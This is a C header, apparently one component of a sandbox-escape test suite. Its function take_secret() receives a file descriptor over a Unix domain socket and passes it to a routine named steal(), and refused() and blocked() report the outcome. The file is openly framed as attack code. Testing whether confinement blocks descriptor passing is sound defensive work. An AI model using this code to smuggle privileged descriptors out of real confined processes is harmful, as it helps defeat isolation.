// Owns: taking a descriptor that another process hands over.

#ifndef RECEIVE_H
#define RECEIVE_H
#include "attack.h"

// Ends the attack: connects to `address` and reads what it is handed there.
MAYBE _Noreturn void take_secret(const struct sockaddr_un *address, socklen_t length) {
  int socket_fd = socket(AF_UNIX, SOCK_STREAM, 0);
  if (socket_fd < 0 || connect(socket_fd, (const struct sockaddr *)address, length)) refused("connect to who hands it over");
  union {
    char bytes[CMSG_SPACE(sizeof(int))];
    struct cmsghdr head;
  } control = {0};
  char byte[8];
  struct iovec text = {byte, sizeof byte};
  struct msghdr message = {.msg_iov = &text, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
  if (recvmsg(socket_fd, &message, 0) <= 0) refused("recvmsg");
  if (message.msg_controllen == 0) blocked("no descriptor came");
  int fd;
  memcpy(&fd, CMSG_DATA(&control.head), sizeof fd);
  steal(fd, "a descriptor handed over");
}

#endif
